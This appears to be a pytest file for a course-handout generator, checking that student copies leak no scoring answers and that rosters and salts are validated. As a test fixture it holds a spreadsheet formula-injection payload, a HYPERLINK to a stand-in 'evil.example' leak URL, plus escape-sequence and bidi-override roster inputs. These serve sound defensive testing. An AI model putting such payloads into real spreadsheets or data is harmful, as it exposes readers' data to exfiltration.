"""Course mode: a handout per student, both trees, the key, what a student copy holds.

The shared course (tests/course_fixture.py: a roster and a salt made in the test, four
students, every exercise kind) is batched once per session. Its student copies are read
as a student reads them (pdftotext, pypdf, the HTML's text, the figures' text) and
searched for any printed number that would score; the key and the instructor copies are
checked against an independent numpy re-derivation of each student's config.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import subprocess
import tomllib
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from course_fixture import COURSE, EXERCISES, ROSTER, reportgen, write_course
from pypdf import PdfReader

from reportgen import cli
from reportgen.config import ConfigError, StudentConfig, StudentsConfig
from reportgen.course import students
from reportgen.render.leaks import readable_markup

pytestmark = pytest.mark.slow

needs_pdftotext = pytest.mark.skipif(not shutil.which("pdftotext"),
                                     reason="poppler-utils not installed; .ci/run installs it")
FORMULA_ID = '=HYPERLINK("http://evil.example/?leak","click")'


def variants(batch: Path) -> list[dict[str, Any]]:
    return json.loads((batch / "batch.json").read_text())["variants"]


def key_rows(batch: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO((batch / "answer-key.csv").read_text())))


def student_rows(batch: Path) -> list[dict[str, Any]]:
    return [row for row in variants(batch) if row["copy"] == "student"]


def pdf_text(path: Path) -> str:
    return subprocess.run(["pdftotext", str(path), "-"], capture_output=True, text=True,
                          check=True).stdout


# ---------------------------------------------------------------- an independent reading


def printed_numbers(text: str) -> list[float]:
    """Every number a reader sees in ``text`` (the test's own reading: digits not glued to
    letters, a true or ASCII minus, an optional fraction; thin-space groups joined)."""
    text = text.replace("\u2009", "").replace("\u202f", "")
    found = []
    for match in re.finditer(r"(?<![\w.])([-\u2212]?)(\d+(?:\.\d+)?)(?![\w]|\.\d)", text):
        found.append(float(match.group(2)) * (-1 if match.group(1) else 1))
    return found


def scores(printed: float, answer: float, tolerance: float) -> bool:
    """Whether typing printed, 1/printed, 2/printed, printed/2, 2 printed, 100 printed or
    printed/100 would score."""
    candidates = [printed, printed / 2, 2 * printed, 100 * printed, printed / 100]
    if printed:
        candidates += [1 / printed, 2 / printed]
    return any(abs(c - answer) <= tolerance * abs(answer) for c in candidates)


def readable(folder: Path) -> dict[str, str]:
    """Everything a student reads in their folder, by place."""
    places = {"pdftotext": pdf_text(folder / "handout.pdf"),
              "index.html": readable_markup((folder / "index.html").read_text())}
    for svg in sorted((folder / "figures").glob("*.svg")):
        places[svg.name] = readable_markup(svg.read_text())
    reader = PdfReader(folder / "handout.pdf")
    for name, blobs in reader.attachments.items():
        places[f"attachment {name}"] = blobs[0].decode()
    for name, spec in (reader.get_fields() or {}).items():
        places[f"field {name}"] = " ".join(str(spec.get(k, "")) for k in ("/V", "/DV", "/Opt"))
    places["metadata"] = " ".join(str(v) for v in (reader.metadata or {}).values())
    for path in folder.rglob("*"):
        if path.suffix in (".toml", ".json", ".txt", ".csv"):
            places[path.name] = path.read_text()
    return places


# ---------------------------------------------------------------- the trees


def test_one_batch_makes_both_trees_handouts_and_the_key(course_batch: Path) -> None:
    rows = variants(course_batch)
    names = sorted({row["id"].split("/", 1)[1] for row in rows})
    assert len(names) == 4 and {"s001", "s002", "s004"} <= set(names)
    for name in names:
        student = tomllib.loads((course_batch / "students" / name / "config.toml").read_text())
        teacher = tomllib.loads((course_batch / "instructor" / name / "config.toml").read_text())
        assert student["audience"] == "student" and teacher["audience"] == "instructor"
        assert student["seed"] == teacher["seed"] and student["data"] == teacher["data"]
        assert (course_batch / "handouts" / f"{name}.pdf").read_bytes() == (
            course_batch / "students" / name / "handout.pdf").read_bytes()
    assert sorted(p.name for p in (course_batch / "handouts").iterdir()) == \
        sorted(f"{name}.pdf" for name in names)
    assert not list(course_batch.glob("student-*"))
    assert json.loads((course_batch / "batch.json").read_text())["complete"] is True
    assert len(key_rows(course_batch)) == 4 * len(EXERCISES)


def test_the_student_config_reproduces_the_data_and_holds_no_solution(
    course_batch: Path,
) -> None:
    salt = (course_batch.parent / "course.salt").read_text().strip()
    for row in student_rows(course_batch):
        folder = course_batch / row["id"]
        text = (folder / "config.toml").read_text()
        attached = PdfReader(folder / "handout.pdf").attachments["config.toml"][0].decode()
        assert attached == text
        config = tomllib.loads(text)
        assert all(exercise["solution"] == "" for exercise in config["exercises"])
        assert "table shows" not in text and "students" not in config and "salt" not in text
        assert config["student"]["id"] == row["student"]["id"]
        assert not (folder / "results.json").exists()
    for path in course_batch.rglob("*"):
        if path.is_file() and path.suffix in (".toml", ".json", ".csv", ".html"):
            assert salt not in path.read_text(errors="replace"), path


@needs_pdftotext
def test_no_student_copy_prints_a_number_that_scores(course_batch: Path) -> None:
    key = key_rows(course_batch)
    for row in student_rows(course_batch):
        sid = row["student"]["id"]
        numeric = [(float(r["answer"]), float(r["tolerance"])) for r in key
                   if r["student_id"].removeprefix("'") == sid
                   and r["exercise_id"] in ("stable-rate", "two-steps")]
        assert len(numeric) == 2
        for place, text in readable(course_batch / row["id"]).items():
            for number in printed_numbers(text):
                for answer, tolerance in numeric:
                    assert not scores(number, answer, tolerance), (sid, place, number, answer)


@needs_pdftotext
def test_student_pdfs_extract_as_plain_text(course_batch: Path) -> None:
    for row in student_rows(course_batch):
        text = pdf_text(course_batch / row["id"] / "handout.pdf")
        assert "\ufb01" not in text and "\ufb02" not in text
        assert "fits" in text or "first" in text
    assert "PDF is a form" not in (course_batch / "students/s001/index.html").read_text()


def test_every_student_pdf_has_one_field_per_exercise(course_batch: Path) -> None:
    for row in student_rows(course_batch):
        fields = PdfReader(course_batch / row["id"] / "handout.pdf").get_fields() or {}
        assert sorted(fields) == sorted(EXERCISES)
        assert fields["diverges"]["/FT"] == "/Ch"
        assert [str(o[0]) for o in fields["diverges"]["/Opt"]] == ["", "A", "B", "C", "D"]
        assert all(not str(spec.get("/V") or "") for spec in fields.values())


# ---------------------------------------------------------------- the key, re-derived


def rederive(config: dict[str, Any]) -> dict[str, Any]:
    """Every answer of a student's config with numpy alone (the notebook's stream)."""
    data = config["data"]
    stream = np.random.RandomState(config["seed"])
    low, high = data["x_range"]
    x = low + (high - low) * stream.rand(data["n"], 1)
    y = data["theta"][0] + data["theta"][1] * x + data["noise"] * stream.randn(data["n"], 1)
    design = np.c_[np.ones(data["n"]), x[:, 0]]
    a, b, n = design.T @ design, design.T @ y[:, 0], data["n"]
    lmax = np.linalg.eigvalsh(2.0 / n * a)[-1]
    theta = np.zeros(2)
    for _ in range(2):
        theta = theta - 0.05 * 2.0 / n * (a @ theta - b)
    star = np.linalg.lstsq(design, y[:, 0], rcond=None)[0]
    floor = float(np.mean((design @ star - y[:, 0]) ** 2))
    t, k = np.zeros(2), 0
    while np.mean((design @ t - y[:, 0]) ** 2) > 1.01 * floor:
        t, k = t - 0.3 * 2.0 / n * (a @ t - b), k + 1
    options = [0.05, 0.2, 0.35, 0.7]
    letter = "ABCD"[next(i for i, rate in enumerate(options) if rate > 2.0 / lmax)]
    return {"stable-rate": 2.0 / lmax, "two-steps": theta[1], "reach": k, "diverges": letter}


def test_the_key_and_instructor_copies_match_a_numpy_rederivation(course_batch: Path) -> None:
    key = {(r["student_id"], r["exercise_id"]): r for r in key_rows(course_batch)}
    for row in student_rows(course_batch):
        sid = row["student"]["id"]
        written = sid if not sid.startswith("=") else "'" + sid
        config = tomllib.loads((course_batch / row["id"] / "config.toml").read_text())
        want = rederive(config)
        mine = {e: key[(written, e)]["answer"] for e in EXERCISES}
        assert float(mine["stable-rate"]) == pytest.approx(want["stable-rate"], rel=1e-10)
        assert float(mine["two-steps"]) == pytest.approx(want["two-steps"], rel=1e-10)
        assert mine["reach"] == str(want["reach"]) and mine["diverges"] == want["diverges"]
        html = (course_batch / "instructor" / row["id"].split("/", 1)[1] / "index.html")
        text = readable_markup(html.read_text())
        assert f"{want['stable-rate']:.4f}" in text and "Solution." in text
        assert "<input" not in html.read_text() and "Work from" in text


def test_the_key_neutralises_a_formula_id_and_keeps_numbers_numbers(course_batch: Path) -> None:
    text = (course_batch / "answer-key.csv").read_text()
    for line in csv.reader(io.StringIO(text)):
        assert not line[0].startswith(("=", "+", "@", "\t", "\r")), line
        float(line[2]) if line[1] != "diverges" and line[0] != "student_id" else None
    assert "'" + FORMULA_ID in [row["student_id"] for row in key_rows(course_batch)]


def test_the_course_index_lists_students_copies_and_the_key(course_batch: Path) -> None:
    html = (course_batch / "index.html").read_text()
    for name in ("Ada Lovelace", "Alan Turing", "Katherine Johnson"):
        assert name in html
    assert 'href="students/s001/handout.pdf"' in html
    assert 'href="instructor/s001/index.html"' in html and 'href="handouts/s001.pdf"' in html
    assert "stable-rate: key" in html and "built" in html and "final loss" not in html


@pytest.mark.slow
def test_verify_rebuilds_a_student_copy_from_its_config(course_batch: Path) -> None:
    done = reportgen("verify", str(course_batch / "students" / "s001"))
    assert "reproduced" in done.stdout and "NOT" not in done.stdout
    assert "its numbers through a rebuild (a student copy carries no results.json" in \
        done.stdout
    assert "with a rebuild (index.html, handout.pdf and handout.ipynb included)" in done.stdout


# ---------------------------------------------------------------- rosters


def roster_at(tmp_path: Path, text: str | bytes) -> Path:
    path = tmp_path / "roster.csv"
    path.write_bytes(text if isinstance(text, bytes) else text.encode("utf-8"))
    return path


def test_roster_reads_id_and_name_nfc_and_ignores_other_columns(tmp_path: Path) -> None:
    path = roster_at(tmp_path, "\ufeffID,Name,grade\n a1 , Ann ,3\nb2,,\ne\u03011,Zo\u0308e,\n")
    assert students.read_roster(path) == [StudentConfig(id="a1", name="Ann"),
                                          StudentConfig(id="b2", name=""),
                                          StudentConfig(id="\u00e91", name="Z\u00f6e")]


@pytest.mark.parametrize(("text", "message"), [
    ("name\nAnn\n", "expected a header row with the columns id,name"),
    ("id,name\na1,Ann\na1,Bob\n", "line 3: student id 'a1' appears twice"),
    ("id,name\n\u00e91,Ann\ne\u03011,Bob\n", "line 3: student id 'é1' appears twice"),
    ("id,name\ns001,Ann\nS001,Bob\n", "line 3: student id 'S001' looks like 's001' on line 2"),
    ("id,name\ns001,Ann\ns001\u200b,Bob\n", "line 3: id: expected visible text, got U+200B"),
    ("id,name\ns\u202e01,Ann\n", "line 2: id: expected visible text, got U+202E"),
    ("id,name\n,Ann\n", "line 2: expected a student id"),
    ("id,name\n", "expected at least one student"),
    ("id,name\na1,\x1b[2JAnn\n", "line 2: name: expected visible text, got U+001B"),
    ("id,name\na1," + "x" * 140_000 + "\n", "line 2: field larger than field limit"),
])
def test_bad_rosters_are_one_line_naming_the_line(tmp_path: Path, text: str,
                                                  message: str) -> None:
    with pytest.raises(ConfigError, match=re.escape(message)):
        students.read_roster(roster_at(tmp_path, text))


def test_a_roster_that_is_not_a_file_is_refused_unread(tmp_path: Path) -> None:
    fifo = tmp_path / "fifo.csv"
    os.mkfifo(fifo)
    with pytest.raises(ConfigError, match="is a named pipe"):
        students.read_roster(fifo)
    zero = tmp_path / "zero.csv"
    zero.symlink_to("/dev/zero")
    with pytest.raises(ConfigError, match="is a character device"):
        students.read_roster(zero)


# ---------------------------------------------------------------- the salt


def settings(**values: Any) -> StudentsConfig:
    return StudentsConfig(roster="r.csv", **values)


def test_a_students_stream_depends_on_salt_and_id_only() -> None:
    spec = settings(ranges={"data.noise": (0.5, 2.0)})
    ann, bob = StudentConfig(id="ann"), StudentConfig(id="bob")
    salt = "a" * 32
    assert students.draw(spec, ann, 0, salt) == students.draw(spec, ann, 0, salt)
    assert students.draw(spec, ann, 0, salt) != students.draw(spec, bob, 0, salt)
    assert students.draw(spec, ann, 0, salt) != students.draw(spec, ann, 1, salt)
    assert students.draw(spec, ann, 0, salt) != students.draw(spec, ann, 0, "b" * 32)


def test_the_salt_comes_from_its_file_or_the_environment(tmp_path: Path) -> None:
    (tmp_path / ".salt").write_text("  " + "c" * 40 + "\n")
    assert students.read_salt(settings(salt_file=".salt"), tmp_path, {}) == "c" * 40
    assert students.read_salt(settings(), tmp_path, {"REPORTGEN_SALT": "d" * 20}) == "d" * 20
    for values, environ, message in [
        ({}, {}, "students.salt_file: expected a file with the course's secret salt"),
        ({"salt_file": "nope"}, {}, "students.salt_file: no such file"),
        ({"salt_file": ".salt"}, {"REPORTGEN_SALT": "e" * 40}, "is set too, to another salt"),
        ({}, {"REPORTGEN_SALT": "short"}, "expected a salt of at least 16 characters"),
    ]:
        with pytest.raises(ConfigError, match=re.escape(message)):
            students.read_salt(settings(**values), tmp_path, environ)


def test_a_salt_printed_in_an_example_or_the_docs_is_refused(tmp_path: Path) -> None:
    published = students.published_texts()
    assert any(p.name == "README.md" for p in published)
    guide = next(p for p in published if p.name == "per-student.md").read_text()
    example = re.search(r"REPORTGEN_SALT=\"?([^\"\s]+)", guide)
    assert example is not None, "the guide shows no example salt to refuse"
    with pytest.raises(ConfigError, match="printed in reportgen's examples or docs"):
        students.read_salt(settings(), tmp_path, {"REPORTGEN_SALT": example.group(1)})


def test_a_config_with_an_inline_salt_is_refused_with_one_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str],
) -> None:
    config = write_course(tmp_path)
    config.write_text(COURSE.replace('salt_file = "course.salt"', 'salt = "lab-3 secret"'))
    code = cli.main(["batch", str(config), "--out", str(tmp_path / "out"), "-q"])
    err = capsys.readouterr().err.strip().splitlines()
    assert code == 2 and len(err) == 1
    assert "students.salt: the salt no longer lives in the config" in err[0]
    assert "students.salt_file" in err[0] and "$REPORTGEN_SALT" in err[0]


def test_batch_refuses_audience(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code = cli.main(["batch", str(write_course(tmp_path)), "--audience", "instructor", "-q"])
    assert code == 2 and "--audience: a batch makes every copy" in capsys.readouterr().err


def test_init_starts_a_course_with_a_secret_ignored_salt(tmp_path: Path) -> None:
    assert cli.main(["init", str(tmp_path / "lab"), "--from", "lab-course"]) == 0
    salt = (tmp_path / "lab" / ".salt").read_text().strip()
    assert len(salt) == 64 and int(salt, 16) >= 0
    assert ".salt" in (tmp_path / "lab" / ".gitignore").read_text().splitlines()
    config = tomllib.loads((tmp_path / "lab" / "lab-course.toml").read_text())
    assert config["students"]["salt_file"] == ".salt" and "salt" not in config["students"]
    assert (tmp_path / "lab" / ".salt").stat().st_mode & 0o077 == 0
    assert ROSTER.splitlines()[0] == "id,name,email"


def test_verify_reads_a_course_batchs_two_trees(tmp_path: Path) -> None:
    from reportgen import verification

    def listed(*ids: str) -> list[Path] | None:
        rows = [{"id": name} for name in ids]
        (tmp_path / "batch.json").write_text(json.dumps({"schema": "reportgen.batch/1",
                                                         "variants": rows}))
        return verification.batch_variants(tmp_path)

    assert listed("students/s001", "instructor/s001") == [tmp_path / "students/s001",
                                                         tmp_path / "instructor/s001"]
    for bad in ("students/../x", "../x", "other/s001", "students/a/b"):
        with pytest.raises(ConfigError, match="names a variant outside the batch folder"):
            listed(bad)


def test_an_exercise_no_copy_can_keep_secret_stops_the_batch_before_drawing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str],
) -> None:
    config = write_course(tmp_path)
    config.write_text(COURSE.replace('answer = "diagnostics.max_stable_lr"',
                                     'answer = "runs.0.final_loss"'))
    code = cli.main(["batch", str(config), "--out", str(tmp_path / "out"), "-q"])
    err = capsys.readouterr().err.strip().splitlines()
    assert code == 2 and len(err) == 1 and not (tmp_path / "out").exists()
    assert "exercises[0].answer: a student copy cannot withhold what 'runs.0.final_loss'" \
        in err[0]


def test_a_prompt_that_prints_its_answer_is_refused_at_build(
    tmp_path: Path, capsys: pytest.CaptureFixture[str],
) -> None:
    one = tmp_path / "one.toml"  # a handout with exercises and no roster: build makes it
    one.write_text(re.sub(r"\[students\][\s\S]*?(?=\[\[exercises\]\])", "", COURSE).replace(
        'prompt = "Count the steps."',
        'prompt = "hint: {{ \\"%.5f\\"|format(results.diagnostics.max_stable_lr) }}"'))
    code = cli.main(["build", str(one), "--out", str(tmp_path / "out"), "--format", "html",
                     "-q"])
    err = capsys.readouterr().err.strip().splitlines()
    assert code == 2 and len(err) == 1 and not (tmp_path / "out").exists()
    assert "exercises[2].prompt: uses what a student copy does not hold" in err[0]
